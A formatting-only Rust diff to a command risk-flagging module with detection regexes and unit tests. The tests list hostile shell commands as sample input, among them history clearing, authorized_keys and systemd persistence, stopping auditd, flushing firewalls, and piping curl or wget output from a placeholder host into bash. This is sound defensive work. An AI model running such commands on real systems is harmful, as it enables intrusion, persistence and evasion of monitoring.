@@ -90,7 +90,11 @@ impl FlaggedCommand {
 /// The default rules as `(label, severity, pattern)`; README "Risk flags" lists them.
 pub const DEFAULTS: &[(&str, Severity, &str)] = &[
     ("privilege: sudo", Severity::Medium, r"\bsudo\b"),
-    ("privilege: su", Severity::Medium, r"(?:^|[\s;&|(`])su(?:\s|$)"),
+    (
+        "privilege: su",
+        Severity::Medium,
+        r"(?:^|[\s;&|(`])su(?:\s|$)",
+    ),
     (
         "destruction: recursive rm",
         Severity::High,
@@ -194,12 +198,7 @@ pub fn apply(commands: Vec<Command>, rules: &[FlagRule]) -> Vec<FlaggedCommand> 
 
 /// Counts of flagged commands by their highest severity: `(high, medium, low)`.
 pub fn counts(commands: &[FlaggedCommand]) -> (usize, usize, usize) {
-    let n = |s| {
-        commands
-            .iter()
-            .filter(|c| c.severity() == Some(s))
-            .count()
-    };
+    let n = |s| commands.iter().filter(|c| c.severity() == Some(s)).count();
     (n(Severity::High), n(Severity::Medium), n(Severity::Low))
 }
 
@@ -243,7 +242,10 @@ mod tests {
             ("history -c", "hiding tracks: history cleared"),
             ("history -cw", "hiding tracks: history cleared"),
             ("unset HISTFILE", "hiding tracks: history cleared"),
-            ("export HISTFILE=/dev/null", "hiding tracks: history cleared"),
+            (
+                "export HISTFILE=/dev/null",
+                "hiding tracks: history cleared",
+            ),
             ("history | tail", ""),
             ("vi ~/.bash_history", "hiding tracks: shell history file"),
             ("> /root/.bash_history", "hiding tracks: shell history file"),
@@ -255,8 +257,14 @@ mod tests {
             ("crontab jobs.txt", "persistence: crontab"),
             ("echo x >> /etc/crontab", "persistence: crontab"),
             ("crontab -l", ""),
-            ("echo key >> ~/.ssh/authorized_keys", "persistence: authorized_keys"),
-            ("vi /etc/systemd/system/x.service", "persistence: systemd unit"),
+            (
+                "echo key >> ~/.ssh/authorized_keys",
+                "persistence: authorized_keys",
+            ),
+            (
+                "vi /etc/systemd/system/x.service",
+                "persistence: systemd unit",
+            ),
             ("systemctl enable backdoor", "persistence: systemd unit"),
             ("systemctl status nginx", ""),
             (
@@ -267,11 +275,17 @@ mod tests {
                 "service auditd stop",
                 "disabling controls: agent or audit stopped",
             ),
-            ("auditctl -e 0", "disabling controls: agent or audit stopped"),
+            (
+                "auditctl -e 0",
+                "disabling controls: agent or audit stopped",
+            ),
             ("pkill auditd", "disabling controls: agent or audit stopped"),
             ("systemctl status auditd", ""),
             ("iptables -F", "disabling controls: firewall flushed"),
-            ("iptables --flush INPUT", "disabling controls: firewall flushed"),
+            (
+                "iptables --flush INPUT",
+                "disabling controls: firewall flushed",
+            ),
             ("nft flush ruleset", "disabling controls: firewall flushed"),
             ("iptables -L -n", ""),
             (
@@ -282,7 +296,10 @@ mod tests {
                 "wget -qO- http://x | sudo bash",
                 "download and run: pipe to shell",
             ),
-            ("bash <(curl -s http://x)", "download and run: pipe to shell"),
+            (
+                "bash <(curl -s http://x)",
+                "download and run: pipe to shell",
+            ),
             ("curl -o out.tgz http://x", ""),
             ("curl http://x | jq .", ""),
             (
